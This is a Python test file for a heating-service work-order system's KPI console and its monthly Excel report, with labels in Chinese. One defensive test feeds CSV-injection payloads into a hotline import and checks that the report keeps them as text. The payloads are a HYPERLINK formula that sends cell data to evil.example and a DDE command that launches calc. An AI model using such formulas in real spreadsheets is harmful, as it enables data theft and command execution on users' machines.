"""KPIs in the console (14.4, Table 1) and the monthly Excel report (10.1.9)."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import update

from api.models import WorkOrder
from heating_standard.kpis import DEFINITIONS
from tests.api.conftest import Browser, FakeOutbound, FixedClock, act_ok, to_site
from tests.api.test_bot_figures import SAID

REPAIR = {"kind": "repair", "category": "equipment", "source": "wechat", "description": "阀门坏了"}
HOTLINE = {"kind": "complaint", "category": "room_temperature", "source": "city_hotline", "description": "室温低"}


def test_the_kpi_page_shows_each_figure_with_its_fraction_and_target(
    browser: Callable[[str], Browser], client: TestClient, auth: dict, agent: dict, clock: FixedClock
) -> None:
    on_time = client.post("/api/v1/work-orders", json=REPAIR, headers=auth).json()
    late = client.post("/api/v1/work-orders", json=REPAIR, headers=auth).json()
    to_site(client, agent, on_time["id"])  # on site within 10.2.4's 30 minutes
    clock.advance(minutes=45)
    to_site(client, agent, late["id"])
    b = browser("agent")
    page = b.get("/console/kpis?start=2026-12-01&end=2026-12-10").text
    row = re.search(r'<tr class="bad" data-kpi="repair_response_rate">(.*?)</tr>', page, re.S)
    assert row, page
    assert "50.0%" in row.group(1) and "1 / 2" in row.group(1) and "= 100%" in row.group(1) and "未达标" in row.group(1)
    api = client.get(
        "/api/v1/kpis", params={"start": "2026-12-01T00:00:00+08:00", "end": "2026-12-11T00:00:00+08:00"}, headers=agent
    ).json()
    repair = next(k for k in api["kpis"] if k["name"] == "repair_response_rate")
    assert (repair["numerator"], repair["denominator"]) == (1, 2)
    charts = json.loads(re.search(r'<script type="application/json" id="kpi-data">(.*?)</script>', page, re.S).group(1))  # type: ignore[union-attr]
    assert charts["weeks"] == ["12-01", "12-08"]
    table_order = re.findall(r'data-kpi="([a-z_]+)"', page)
    assert charts["order"] == table_order and len(table_order) == 8  # Table 1, 10.1.6, 14.4.6
    assert charts["series"]["repair_response_rate"] == [None, 50.0]
    assert b.get("/console/kpis?start=2026-12-10&end=2026-12-01").status_code == 422


def test_the_monthly_report_is_an_excel_workbook_with_definitions(
    browser: Callable[[str], Browser], client: TestClient, auth: dict, agent: dict, clock: FixedClock
) -> None:
    replied = client.post("/api/v1/work-orders", json={**HOTLINE, "external_reference": "R-1"}, headers=auth).json()
    client.post("/api/v1/work-orders", json={**HOTLINE, "external_reference": "R-2"}, headers=auth)
    act_ok(client, agent, replied["id"], "respond", "complete")
    clock.advance(days=10)  # the second is past its 5 working days, unanswered
    b = browser("supervisor")
    answer = b.get("/console/kpis/report.xlsx?month=2026-12")
    assert answer.status_code == 200 and answer.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    book = load_workbook(io.BytesIO(answer.content))
    assert book.sheetnames == ["服务指标", "热线考核", "热线工单明细", "口径说明"]
    review = {row[0]: row for row in book["热线考核"].iter_rows(min_row=2, values_only=True) if row[0]}
    city = review["12345市民热线"]
    header = [c.value for c in book["热线考核"][1]]
    assert city[header.index("受理")] == 2 and city[header.index("按时答复")] == 1
    assert city[header.index("超时未答复")] == 1 and city[header.index("按时答复率")] == 0.5
    lines = list(book["热线工单明细"].iter_rows(min_row=2, values_only=True))
    assert [(line[1], line[-1]) for line in lines] == [("R-1", "按时答复"), ("R-2", "超时未答复")]
    defined = [row[0] for row in book["口径说明"].iter_rows(min_row=2, values_only=True)]
    assert all(words in defined for words, _ in DEFINITIONS.values())
    kpi_rows = {row[0]: row for row in book["服务指标"].iter_rows(min_row=5, values_only=True) if row and row[0]}
    assert kpi_rows["投诉回访率"][2:4] == (0, 1)  # one complaint completed, not yet called back
    assert b.get("/console/kpis/report.xlsx?month=2026-13").status_code == 422


def kpi_row(page: str, name: str) -> tuple[str, str]:
    """(the row's class, its cells) of one KPI on the page."""
    row = re.search(rf'<tr class="([a-z]*)" data-kpi="{name}">(.*?)</tr>', page, re.S)
    assert row, page
    return row[1], row[2]


def test_a_kpi_with_nothing_due_yet_is_not_yet_due_and_only_what_is_due_counts_as_missed(
    browser: Callable[[str], Browser],
    client: TestClient,
    auth: dict,
    agent: dict,
    staff: Callable[[str], dict],
    clock: FixedClock,
) -> None:
    """14.4.4/14.4.5: complaints just finished, whose call-backs (10.1.6: three days) are not due, are
    neither met nor missed; so are repairs still inside their response window (14.4.2)."""
    complaint = {"kind": "complaint", "category": "service", "source": "wechat", "description": "态度不好"}
    done = [client.post("/api/v1/work-orders", json=complaint, headers=auth).json() for _ in range(3)]
    for order in done:
        act_ok(client, agent, order["id"], "respond", "complete")
    waiting_repair = client.post("/api/v1/work-orders", json=REPAIR, headers=auth).json()
    assert waiting_repair["status"] == "accepted"
    b = browser("agent")
    page = b.get("/console/kpis?start=2026-12-01&end=2026-12-31").text
    for name in ("complaint_process_satisfaction", "complaint_result_satisfaction", "repair_response_rate"):
        css, cells = kpi_row(page, name)
        assert css == "" and "未到期" in cells and "未达标" not in cells, cells
    css, cells = kpi_row(page, "complaint_process_satisfaction")
    assert "0 / 0" in cells and "另有 3 个未到期" in cells and "—" in cells
    css, cells = kpi_row(page, "complaint_on_time_rate")
    assert "3 / 3" in cells and "无目标" in cells  # 14.4.6 publishes it without a target in Table 1

    # One is called back satisfied; the call-back window of the other two passes unanswered.
    tasks = client.get("/api/v1/callbacks", params={"status": "open"}, headers=agent).json()["items"]
    first = next(t for t in tasks if t["order_id"] == done[0]["id"])
    answer = {"method": "phone", "process_satisfied": True, "result_satisfied": True}
    called = client.post(f"/api/v1/work-orders/{first['order_id']}/actions/callback", json=answer, headers=agent)
    assert called.status_code == 200, called.text
    page = b.get("/console/kpis?start=2026-12-01&end=2026-12-31").text
    css, cells = kpi_row(page, "complaint_process_satisfaction")
    assert css == "" and "1 / 1" in cells and "另有 2 个未到期" in cells and "达标" in cells
    clock.advance(days=4)
    b = browser("agent")  # the morning's session has expired
    page = b.get("/console/kpis?start=2026-12-01&end=2026-12-31").text
    css, cells = kpi_row(page, "complaint_process_satisfaction")
    assert css == "bad" and "1 / 3" in cells and "未到期" not in cells and "未达标" in cells
    css, cells = kpi_row(page, "repair_response_rate")
    assert css == "bad" and "0 / 1" in cells  # its 30 minutes are long over
    period = {"start": "2026-12-01T00:00:00+08:00", "end": "2027-01-01T00:00:00+08:00"}
    api = client.get("/api/v1/kpis", params=period, headers=staff("agent")).json()
    coverage = api["callback_coverage"]
    assert (coverage["numerator"], coverage["denominator"], coverage["pending"]) == (1, 3, 0)


# What a spreadsheet would run (OWASP's CSV injection); the first two are the review's (N4).
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"详情")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)"]


def test_no_text_in_the_monthly_report_is_a_formula_or_breaks_it(
    browser: Callable[[str], Browser], client: TestClient, auth: dict
) -> None:
    b = browser("agent")
    table = io.StringIO()
    writer = csv.writer(table)
    writer.writerow(["来源", "原始受理时间", "平台工单号", "诉求内容"])
    for number in FORMULAS:
        writer.writerow(["12345", "2026-12-01 08:15", number, "室温低"])
    files = {"file": ("hostile.csv", table.getvalue().encode(), "text/csv")}
    imported = b.client.post("/console/hotline-import/commit", files=files, headers={"X-CSRF-Token": b.csrf})
    assert "已导入 5 张新工单" in imported.text
    # Stored before numbers were checked (the review's N5): a control character, and a leading tab.
    stored = [
        client.post("/api/v1/work-orders", json={**HOTLINE, "external_reference": f"S-{n}"}, headers=auth)
        for n in (1, 2)
    ]
    with client.app.state.session_factory() as session:  # type: ignore[attr-defined]
        for answer, number in zip(stored, ["RT\x01CTRL\x1f", "\t=1+1"], strict=True):
            session.execute(
                update(WorkOrder).where(WorkOrder.id == answer.json()["id"]).values(external_reference=number)
            )
        session.commit()

    report = b.get("/console/kpis/report.xlsx?month=2026-12")
    assert report.status_code == 200
    with zipfile.ZipFile(io.BytesIO(report.content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and all("<f>" not in archive.read(name).decode() for name in sheets)
    book = load_workbook(io.BytesIO(report.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    numbers = {cell.value: cell for cell in book["热线工单明细"]["B"][1:]}
    assert set(numbers) == {*FORMULAS, "RT\ufffdCTRL\ufffd", "\t=1+1"}
    assert all(numbers[text].quotePrefix for text in [*FORMULAS, "\t=1+1"])  # Excel keeps them text when edited
    targets = [row[6] for row in book["服务指标"].iter_rows(min_row=5, values_only=True) if row[6] == "= 100%"]
    assert len(targets) == 3  # Q, P and the call-back coverage: the target as written (N12)


def test_the_kpi_page_shows_the_bots_days(browser: Callable[[str], Browser], outbound: FakeOutbound) -> None:
    """The bot's own figures per day beside the KPIs; the backend's part shows when the channel cannot be read."""
    outbound.figures["2026-12-10"] = SAID
    b = browser("agent")
    page = b.get("/console/kpis?start=2026-12-09&end=2026-12-10").text
    row = page[page.index('data-day="2026-12-10"') :].split("</tr>")[0]
    assert "<td>40</td><td>31</td>" in row and "77.5%" in row
    assert page.index('data-day="2026-12-10"') < page.index('data-day="2026-12-09"')  # newest first
    outbound.channel_figures_up = False
    page = b.get("/console/kpis?start=2026-12-09&end=2026-12-10").text
    assert "暂时读不到会话记录" in page
